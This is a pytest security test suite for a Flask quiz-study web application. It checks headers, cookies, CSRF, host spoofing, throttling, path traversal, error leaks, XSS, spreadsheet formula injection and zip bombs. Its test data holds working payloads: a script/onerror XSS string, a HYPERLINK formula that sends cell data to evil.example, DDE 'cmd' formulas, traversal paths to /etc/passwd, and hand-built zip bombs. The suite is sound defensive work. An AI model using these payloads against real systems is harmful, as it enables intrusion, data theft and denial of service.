"""Attacks, and what happens: docs/explanation/security.md lists every threat."""

import base64
import csv
import io
import json
import logging
import re
import secrets
import statistics
import time as stopwatch
import zipfile
from dataclasses import replace

import openpyxl
import pytest
from flask import g

from analysis.report.files import csv_text, workbook
from analysis.responses import load_csv
from quiz_app import create_app
from quiz_app.database import db
from quiz_app.errors import InvalidInputError
from quiz_app.exchange import archive, export, responses_csv
from quiz_app.models import Event, Member, Pool, Reader, Trial
from quiz_app.pools import archives
from quiz_app.settings import Settings
from quiz_app.study import lifecycle, readers, researchers
from tests.quiz_app.conftest import PASSWORD
from tests.quiz_app.test_authorisation import apart, routes, state  # noqa: F401  (`apart` is a fixture)
from tests.server import wait_for_a_fresh_minute

HOSTILE = """<script>evil()</script>"'><img src=x onerror=evil()>{{7*7}}"""
# What a browser may keep: no secret, and images that the researcher who sees them may see again.
KEPT = ("static", "researcher.picture", "researcher.thumbnail", "researcher.whole_image")
INLINE = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>|<style|\sstyle=|\son[a-z]+=[\"']|javascript:")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"result")'


@pytest.fixture
def everything_there(owner, owned, invite):
    """A closed study of `owner` with one reader who has finished; returns the reader."""
    study = owned(practice=0)
    taker = invite(study).enter()
    taker.finish()
    lifecycle.close(study)
    db.session.commit()
    return taker


def pages(app, client, taker):
    """The response to every GET of the application, as the owner sees it, and a reader who has finished."""
    for endpoint, method, address in routes(app):
        if method == "GET":
            response = client.get(address.replace("a-token", taker.token), buffered=True)
            yield endpoint, response
            response.close()


# Heads, cookies, inline code


def test_every_answer_carries_what_keeps_it_from_being_framed_sniffed_or_made_to_run_code(app, owner, everything_there):
    nowhere = [("nowhere", owner.get(path)) for path in ("/nowhere", "/researcher/nowhere", "/r/none/", "/join/none/")]
    wrong_way = [("wrong way", owner.delete("/researcher/")), ("too long", owner.post("/", data=bytes(2**20 + 1)))]
    for endpoint, response in [*pages(app, owner, everything_there), *nowhere, *wrong_way]:
        policy = dict(
            part.strip().partition(" ")[::2] for part in response.headers["Content-Security-Policy"].split(";")
        )
        assert policy["frame-ancestors"] == policy["base-uri"] == "'none'", endpoint
        assert "'unsafe-inline'" not in policy.get("script-src", policy["default-src"]), endpoint
        assert policy["default-src"] in ("'self'", "'none'"), endpoint
        assert response.headers["X-Content-Type-Options"] == "nosniff", endpoint
        assert response.headers["Referrer-Policy"] == "no-referrer", endpoint
        kept = response.headers.get("Cache-Control")
        assert kept == "no-store" or endpoint in KEPT, (endpoint, kept)


def test_no_page_has_code_or_style_within_it(app, owner, everything_there):
    seen = 0
    for endpoint, response in pages(app, owner, everything_there):
        if response.mimetype == "text/html":
            seen += 1
            assert INLINE.findall(response.text) == [], endpoint
    assert seen > 20


@pytest.mark.parametrize(("url", "secure"), [("http://localhost", False), ("https://localhost", True)])
def test_the_cookie_is_kept_from_scripts_other_sites_and_lines_that_others_read(app, owner, url, secure):
    form = {"name": "ada", "password": PASSWORD}
    cookie = app.test_client().post("/researcher/login", data=form, base_url=url).headers["Set-Cookie"]
    assert {"HttpOnly", "SameSite=Lax"} <= set(cookie.split("; "))
    assert ("Secure" in cookie.split("; ")) is secure


def test_a_cookie_signed_by_another_secret_logs_nobody_in(app, owner, tmp_path):
    other = create_app(Settings.load({}, instance=tmp_path / "other"))
    forged = other.session_interface.get_signing_serializer(other).dumps({"_user_id": owner.researcher.get_id()})
    client = app.test_client()
    client.set_cookie("session", forged)
    assert client.get("/researcher/").status_code == 302
    ours = app.session_interface.get_signing_serializer(app).dumps({"_user_id": owner.researcher.get_id()})
    client.set_cookie("session", ours)
    assert client.get("/researcher/").status_code == 200


def test_readers_get_no_cookie(app, everything_there):
    for endpoint, response in pages(app, app.test_client(), everything_there):
        if endpoint.startswith(("reader.", "join.")):
            assert "Set-Cookie" not in response.headers, endpoint


# Requests from other sites


def test_no_form_of_researchers_is_taken_without_its_token(app, owner, everything_there):
    app.config["WTF_CSRF_ENABLED"] = True
    before = state()
    forms = [route for route in routes(app) if route[1] == "POST" and route[0].startswith("researcher.")]
    assert len(forms) > 30
    assert [(route[0], code) for route in forms if (code := owner.post(route[2], data={}).status_code) != 400] == []
    assert state() == before


def test_looking_changes_nothing(app, owner, everything_there):
    kept = db.session.query(Event).filter(Event.kind.notin_(["handed-over", "refused"]))
    before, events = state(), kept.count()
    for _ in pages(app, owner, everything_there):
        pass
    assert state() == before
    assert kept.count() == events


# Where the request says it comes from, and where it wants to go


def test_a_false_host_leads_no_reader_elsewhere(app, make_study, invite):
    taker = invite(make_study())
    heads = {"Host": "evil.example", "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https"}
    for endpoint, method, address in routes(app):
        if endpoint.startswith(("reader.", "join.", "home", "health")):
            response = taker.client.open(address.replace("a-token", taker.token), method=method, headers=heads)
            assert b"evil.example" not in response.data, endpoint
            assert "evil.example" not in response.headers.get("Location", ""), endpoint


def test_where_the_public_address_is_set_links_are_made_under_it_whatever_the_host(app, owner, owned):
    owned()
    app.config["SETTINGS"] = replace(app.config["SETTINGS"], public_url="https://quiz.example.org")
    owner.set_cookie("session", owner.get_cookie("session").value, domain="evil.example")
    said = {"base_url": "http://evil.example"}
    page = owner.post("/researcher/studies/mine/readers", data={"pseudonyms": "R1"}, **said)
    page_of_all = owner.post("/researcher/studies/mine/open-link", data={"cap": "3"}, **said)
    for text, path in ((page.text, "/r/"), (page_of_all.text, "/join/")):
        assert f"https://quiz.example.org{path}" in text
        assert "evil.example" not in text


def test_whoever_claims_another_address_each_time_is_throttled_all_the_same(app):
    client = app.test_client()
    wait_for_a_fresh_minute()
    form = {"name": "x", "password": "y"}
    heads = [{"X-Forwarded-For": f"203.0.113.{number}"} for number in range(11)]
    codes = [client.post("/researcher/login", data=form, headers=head).status_code for head in heads]
    assert codes == [403] * 10 + [429]


def test_links_cannot_be_registered_without_end_from_one_address(app, make_study):
    client = app.test_client()
    codes = [client.post("/join/unknown/").status_code for _ in range(301)]
    assert codes == [404] * 300 + [429]


def test_a_hall_that_shares_one_address_may_be_let_in(app, monkeypatch):
    monkeypatch.setitem(app.config, "SETTINGS", replace(app.config["SETTINGS"], joins_per_hour=2))
    client = app.test_client()
    assert [client.post("/join/unknown/").status_code for _ in range(3)] == [404, 404, 429]


TRAVERSALS = [
    "../secret_key",
    "..%2fsecret_key",
    "%2e%2e/secret_key",
    "..\\secret_key",
    "/etc/passwd",
    "....//x",
]


@pytest.mark.parametrize("path", TRAVERSALS)
def test_no_path_leads_out_of_its_folder(app, owner, everything_there, path):
    key = "0" * 16
    for address in (
        f"/researcher/studies/mine/results/{key}/{path}",
        f"/researcher/studies/mine/archive/{path}.zip",
        f"/researcher/restoring/{path}",
        f"/researcher/pools/coming/{path}",
        f"/researcher/pools/coming/{path}/0-0.png",
        f"/researcher/pools/{path}/cases/1.png",
        f"/static/{path}",
    ):
        response = owner.get(address)
        assert response.status_code in (308, 404), address
        assert app.config["SECRET_KEY"].encode() not in response.data


# Guessing


@pytest.mark.alone
def test_log_in_takes_as_long_for_a_name_that_is_none(app):
    researchers.ensure_first()
    researchers.check("nobody", "x")  # the hash of nobody is made once

    def taken(name):
        start = stopwatch.perf_counter()
        assert researchers.check(name, "a wrong password") is None
        return stopwatch.perf_counter() - start

    pairs = [(taken("admin"), taken("nobody")) for _ in range(9)]
    known, unknown = (statistics.median(times) for times in zip(*pairs, strict=True))
    assert 0.6 < known / unknown < 1.7


def test_links_trials_images_and_pages_have_random_names_that_follow_from_no_seed(app, make_study, invite):
    tokens = set()
    for slug in ("one", "two"):  # the same seed, pseudonym and order
        taker = invite(make_study(slug, practice=0)).enter()
        taker.go_on()
        trials = db.session.query(Trial).filter(Trial.sitting.has(reader_id=db.session.query(Reader.id).filter(
            Reader.study.has(slug=slug)).scalar_subquery())).order_by(Trial.position).all()  # fmt: skip
        named = [taker.token, taker.lease, *(name for trial in trials for name in (trial.token, trial.cases[0].token))]
        assert {len(base64.urlsafe_b64decode(name + "==")) for name in named} == {16, 24}
        assert len(base64.urlsafe_b64decode(taker.token)) == 24
        assert not tokens & set(named)
        assert len(set(named)) == len(named) == 2 + 2 * 12
        tokens |= set(named)


def test_a_link_that_is_none_is_answered_the_same_whatever_it_looks_like(app, make_study, invite):
    taker = invite(make_study())
    tries = ["x", taker.token[:-1], taker.token[:-1] + ("A" if taker.token[-1] != "A" else "B"), taker.token.swapcase(),
             readers.hashed(taker.token), secrets.token_urlsafe(24)]  # fmt: skip
    answers = {(r.status_code, r.data) for r in (app.test_client().get(f"/r/{one}/welcome") for one in tries)}
    assert len(answers) == 1
    assert {status for status, _ in answers} == {404}


# What the server gives away


def test_an_error_tells_no_secret(app, owner, make_study, invite, monkeypatch, caplog):
    taker = invite(make_study()).enter()
    app.config.update(TESTING=False, PROPAGATE_EXCEPTIONS=False)

    def broken(*_args, **_more):
        raise RuntimeError("of the inside")

    monkeypatch.setattr("quiz_app.reader.api.wire.step", broken)
    monkeypatch.setattr("quiz_app.reader.pages.words.tools", broken)
    monkeypatch.setattr("quiz_app.study.monitor.progress", broken)
    with caplog.at_level(logging.DEBUG):
        answers = [taker.post("next"), taker.client.get(taker.url("room")), owner.get("/researcher/studies/trial-run/")]
    assert [answer.status_code for answer in answers[:2]] == [500, 500]
    assert "of the inside" in caplog.text  # whoever runs the server hears of it
    for secret in (taker.token, taker.lease, app.config["SECRET_KEY"], readers.hashed(taker.token)):
        assert secret not in caplog.text
    for answer in answers:
        for word in ("of the inside", "Traceback", "quiz_app", taker.token, app.config["SECRET_KEY"]):
            assert word not in answer.text


def test_no_answer_of_the_server_holds_a_key_a_password_or_the_hash_of_a_link(app, owner, everything_there):
    hashes = [everything_there.token and readers.hashed(everything_there.token), owner.researcher.password_hash]
    for endpoint, response in pages(app, owner, everything_there):
        data = response.data
        if response.mimetype == "application/zip":
            with zipfile.ZipFile(io.BytesIO(data)) as packed:
                data = b"".join(map(packed.read, packed.namelist()))
        for secret in (app.config["SECRET_KEY"], str(app.config["SETTINGS"].instance), *hashes):
            assert secret.encode() not in data, endpoint


# Text that is code somewhere else


def hostile_study(app, owner, owned, invite, text):
    """A study in which every text that users can enter is `text`, with a reader who has finished."""
    study = owned(practice=0)
    given = []
    for name, entry in study.rules.entries().items():
        if type(entry.default) in (str, tuple) and not {"choices", "among", "moment"} & entry.metadata.keys():
            for value in (text, (text,), (f"{text}: {text} | {text}",), (text,) * 5):
                try:
                    lifecycle.change(study, {name: value}, title=f"T {text}")
                    given.append(name)
                    break
                except InvalidInputError:
                    continue
    assert {"welcome", "instructions", "consent", "groups", "questions", "thanks"} <= set(given)
    lifecycle.change(study, {"groups": [text], "questions": [text], "result": "at once", "leaderboard": True})
    taker = invite(study, "R1")
    for path, form in (
        ("welcome", {"consent": "yes"}), ("about", {"group": text, "question-1": text}), ("instructions", {}),
    ):  # fmt: skip
        assert taker.client.post(taker.url(path), data=form).status_code == 303
    taker.claim().finish()
    pool = db.session.query(Pool).one()
    pool.name, pool.manifest = text, {**pool.manifest, "name": text}
    for case in pool.cases:
        case.source, case.group, case.excluded = text, case.group and text, text
    for case in pool.cases[:12]:
        case.name = f"{text}{case.id}"
    readers.revoke(readers.invite(study, "R2", text)[0], text)
    db.session.add(Event(at=study.created_at, kind=text, study_id=study.id, actor=text, details={text: text}))
    db.session.commit()
    return study, taker


def test_no_text_becomes_code_on_any_page(app, owner, owned, invite, log_in):
    study, taker = hostile_study(app, owner, owned, invite, HOSTILE)
    told = 0
    for closed in (False, True):
        for endpoint, response in [*pages(app, owner, taker), *told_in_forms(app, owner)]:
            if response.mimetype == "text/html":
                assert "<script>evil" not in response.text, endpoint
                assert "<img src=x" not in response.text, endpoint
                assert "evil()>49" not in response.text, endpoint
                told += "evil()" in response.text
        if not closed:
            lifecycle.close(study)
            db.session.commit()
    assert told > 20


def told_in_forms(app, owner):
    """The responses of forms to hostile text in every field."""
    fields = ("title", "slug", "pool", "preset", "name", "role", "pseudonyms", "group", "reason", "until", "cap", "old",
              "new", "again", "modality", "since", "description", "welcome", "limit_s", "width", "sets")  # fmt: skip
    for endpoint, method, address in routes(app):
        deed = endpoint.rpartition(".")[2]
        if method == "POST" and endpoint.startswith("researcher.") and deed not in ("log_out", "log_in", "close_study",
                                                                                  "delete_reader"):  # fmt: skip
            g.pop("study", None)
            yield endpoint, owner.post(address, data=dict.fromkeys(fields, HOSTILE))
    yield "login", app.test_client().post("/researcher/login", data={"name": HOSTILE, "password": HOSTILE})


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_no_text_becomes_a_formula_in_a_table_that_is_handed_over(app, owner, owned, invite):
    study, _ = hostile_study(app, owner, owned, invite, FORMULA)
    lifecycle.close(study)
    db.session.commit()
    file = io.BytesIO()
    export.write(db.session, study, file)
    with zipfile.ZipFile(file) as packed:
        texts = {name: packed.read(name).decode() for name in packed.namelist() if name.endswith(".csv")}
    texts["log"] = owner.get("/researcher/studies/mine/log.csv").text
    texts["responses"] = owner.get("/researcher/studies/mine/responses.csv").text
    page = owner.post("/researcher/studies/mine/readers", data={"pseudonyms": f"R9\t{FORMULA}"}).text
    texts["links"] = base64.b64decode(re.search(r"data:text/csv;base64,([^\"]+)", page)[1]).decode()
    found = {name for name, text in texts.items() if "HYPERLINK" in text}
    assert {"responses.csv", "readers.csv", "cases.csv", "events.csv", "log", "responses", "links"} <= found
    for name, text in texts.items():
        assert [cell for cell in cells(text) if cell.lstrip().startswith("=")] == [], name


@pytest.mark.parametrize("text", [FORMULA, "@SUM(1)", "+cmd|' /C calc'!A0", "-cmd|x!A0", "\t=1+1", "'=x"])
def test_a_formula_is_defused_and_read_back_as_it_was(tmp_path, text):
    line = responses_csv.line([text])
    assert cells(line)[0].startswith("'")
    assert csv_text(["a"], [[text]]).splitlines()[1].lstrip('"').startswith("'")
    rows = "".join(f"{responses_csv.line([text, f'c{n}', ('real', 'synthetic')[n % 2], n % 5 + 1])}" for n in range(10))
    (tmp_path / "r.csv").write_text(f"reader,case,truth,level\n{rows}", newline="")
    loaded = load_csv(tmp_path / "r.csv")
    assert loaded.readers == [text.strip()]
    book = openpyxl.load_workbook(io.BytesIO(workbook({}, [], loaded)))
    assert "f" not in {cell.data_type for sheet in book for row in sheet for cell in row}


@pytest.mark.parametrize("text", ["-1.5", "+3", "-", "-abcDEF_123", "@home", "plain", 7, None, -2.5])
def test_numbers_and_names_stay_as_they_are(text):
    assert cells(responses_csv.line([text, "x"]))[0] == ("" if text is None else str(text))


# Uploads that are more than they seem


def packed(members, kind=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", kind) as file:
        for name, data in members.items():
            file.writestr(name, data)
    return buffer.getvalue()


def test_zips_within_a_zip_have_one_room_together(tmp_path):
    noise = secrets.token_bytes(6000)
    inner = packed({f"{n}.png": noise + bytes(900_000) for n in range(30)})  # 150 times, and again within its own zip
    (tmp_path / "x.zip").write_bytes(packed({f"{n}.zip": inner for n in range(20)}))
    with pytest.raises(InvalidInputError, match="unpacks to more than"):
        archives.unpack(tmp_path / "x.zip", tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_a_zip_whose_members_share_their_bytes_is_refused(tmp_path):
    """After David Fifield, A better zip bomb (2019): many entries of the list lead to one compressed stream."""
    whole = packed({"a.png": secrets.token_bytes(4000) + bytes(500_000)})
    at = whole.index(b"PK\x01\x02")
    entry = whole[at : whole.index(b"PK\x05\x06")]
    entries = b"".join(entry.replace(b"a.png", b"%05d" % n) for n in range(600))
    end = whole[whole.index(b"PK\x05\x06") :]
    end = end[:8] + (600).to_bytes(2, "little") * 2 + len(entries).to_bytes(4, "little") + end[16:]
    (tmp_path / "x.zip").write_bytes(whole[:at] + entries + end)
    with pytest.raises(InvalidInputError, match="unpacks to more than"):
        archives.unpack(tmp_path / "x.zip", tmp_path / "out")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("members", "fault"),
    [
        ({"archive.json": b"[" * 100_000}, "has no readable archive.json"),
        ({"archive.json": b'{"members": {}}' + b" " * 2**24}, "has no readable archive.json"),
        ({"archive.json": b'{"members": {}}'}, "its tables have version"),
    ],
)
def test_an_archive_that_only_swells_is_refused(app, tmp_path, members, fault):
    (tmp_path / "a.zip").write_bytes(packed(members))
    with pytest.raises(InvalidInputError, match=fault):
        archive.restore(tmp_path / "a.zip", app.config["SETTINGS"].images)


def test_tables_of_an_archive_are_not_read_where_they_swell(app, tmp_path, monkeypatch):
    monkeypatch.setattr(archive, "LARGEST_TABLES", 1000)
    about = {"format": archive.FORMAT, "tables": db.session.scalar(archive.VERSION), "members": {}}
    members = {"archive.json": json.dumps(about).encode(), "tables/answer.jsonl": bytes(1001)}
    (tmp_path / "a.zip").write_bytes(packed(members))
    with pytest.raises(InvalidInputError, match="its tables unpack to more than"):
        archive.restore(tmp_path / "a.zip", app.config["SETTINGS"].images)


# A researcher of another study


def test_a_researcher_of_another_study_learns_nothing_of_this_one(app, owner, owned, invite, log_in, make_study):
    study = owned()
    invite(study, "The-Reader").enter()
    eve = log_in("eve")
    other = make_study("other")
    db.session.add(Member(study_id=other.id, researcher_id=eve.researcher.id, role="collaborator"))
    db.session.commit()
    number = db.session.query(Reader).filter_by(pseudonym="The-Reader").one().id
    for path in ("readers/{}", "readers/{}/renew", "readers/{}/delete", "readers/{}/reset", "readers/{}/revoke"):
        address = f"/researcher/studies/other/{path.format(number)}"
        answer = eve.get(address) if path == "readers/{}" else eve.post(address, data={"reason": "x"})
        assert answer.status_code == 404, path
    for endpoint, method, address in routes(app):
        if method == "GET" and endpoint.startswith("researcher."):
            response = eve.get(address.replace("/mine/", "/other/"), query_string={"with": "mine"}, buffered=True)
            assert b"The-Reader" not in response.data, endpoint
            response.close()
